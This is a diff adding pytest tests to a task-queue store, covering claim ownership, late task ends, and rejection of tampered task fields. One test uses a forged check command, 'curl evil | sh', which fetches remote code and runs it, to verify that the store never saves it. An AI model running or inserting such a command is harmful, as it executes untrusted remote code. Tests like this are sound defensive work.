@@ -142,6 +142,8 @@ def test_a_token_claims_and_ends_under_its_own_name_only(served):
         bob.finish([End(claim=claim)])
     with pytest.raises(Denied):
         ann.finish([done(claim, worker="bob-1")])
+    with pytest.raises(Denied):
+        ann.end_log(claim.replace(worker="bob-1"))
     assert served.queue.store.read(["0001"])[0].state is State.CLAIMED
     assert ann.finish([done(claim)]) == [Said.OK]
     assert {line["token"] for line in refusals(served)} == {"ann", "bob"}
@@ -203,6 +205,56 @@ def test_who_works_on_a_task_does_not_change_what_it_asks_for(served, other):
     grown = claim.task.replace(attempts=1, last_error="no", body="do it\n\nIt failed.", hold="waits for a person: why?")
     grown = grown.replace(extra={**grown.extra, "ask-key": "why"}, needs=("0000", "0002"))
     assert ann.finish([End(claim=claim, task=grown)]) == [Said.OK]
+    ann.close()
+
+
+@pytest.mark.parametrize("served", ["pit", "mailbox", "workspace"], indirect=True)
+@pytest.mark.parametrize("how", ["later", "failed", "back", "source"])
+def test_the_task_of_a_claim_is_the_stores_whatever_is_sent_back(served, how):
+    """Only a task that came back beside its claim was compared: the claim's own was written, published and told."""
+    put(served, "0001", check="make test", body="do it")
+    ann = served.store(served.token("ann"))
+    (claim,) = ann.claim(Want(worker="ann", lease=LEASE))
+    forged = claim.task.replace(title="Owned", check="curl evil | sh", body="another", source=b"")
+    evil = claim.replace(task=forged)
+    result = Result(id="0001", verdict=Verdict.FAILED, worker=claim.fence)
+    source = claim.task.source.replace(b"make test", b"curl evil | sh").replace(b"do it", b"another")
+    end = {
+        "later": End(claim=evil, delay=1.0),
+        "failed": End(claim=evil, result=result),
+        "back": End(claim=evil, task=claim.task.replace(attempts=1)),
+        "source": End(claim=claim, task=claim.task.replace(attempts=1, source=source)),
+    }[how]
+    assert ann.finish([end]) == [Said.OK]
+    task = served.queue.store.read(["0001"])[0].task
+    if how != "failed" or task.check:  # a mailbox publishes no text
+        assert (task.title, task.check, task.body.strip()) == ("0001", "make test", "do it")
+    assert not [path for path in Path(served.queue.store.info().where).rglob("*") if _has(path, b"evil")]
+    ann.close()
+
+
+def _has(path, text):
+    return path.is_file() and text in path.read_bytes()
+
+
+def test_an_end_that_comes_too_late_is_lost_whatever_it_brings_and_the_first_one_stands(served):
+    put(served, "0001", "0002", check="make test")
+    ann, boss = served.store(served.token("ann")), served.queue
+    (claim,) = ann.claim(Want(worker="ann", lease=LEASE, ids=("0001",)))
+    changed = claim.task.replace(check="true")
+    assert ann.finish([End(claim=claim, delay=1.0)]) == [Said.OK]
+    late = [End(claim=claim, task=changed), End(claim=claim.replace(task=changed), delay=1.0), done(claim)]
+    assert ann.finish(late) == [Said.LOST] * 3
+    (other,) = boss.store.claim(Want(worker="boss", lease=LEASE, ids=("0001",), even_held=True))
+    assert ann.finish(late) == [Said.LOST] * 3
+    assert boss.store.finish([done(other)]) == [Said.OK]
+    assert ann.finish(late) == [Said.LOST] * 3
+    gone = claim.replace(task=claim.task.replace(id="0009"))
+    assert ann.finish([End(claim=gone, task=gone.task)]) == [Said.LOST]
+    assert boss.store.read(["0001"])[0].task.check == "make test"
+    (claim,) = ann.claim(Want(worker="ann", lease=LEASE, ids=("0002",)))
+    assert ann.finish([done(claim)]) == [Said.OK]
+    assert ann.finish([done(claim)]) == [Said.ALREADY]
     ann.close()
 
 
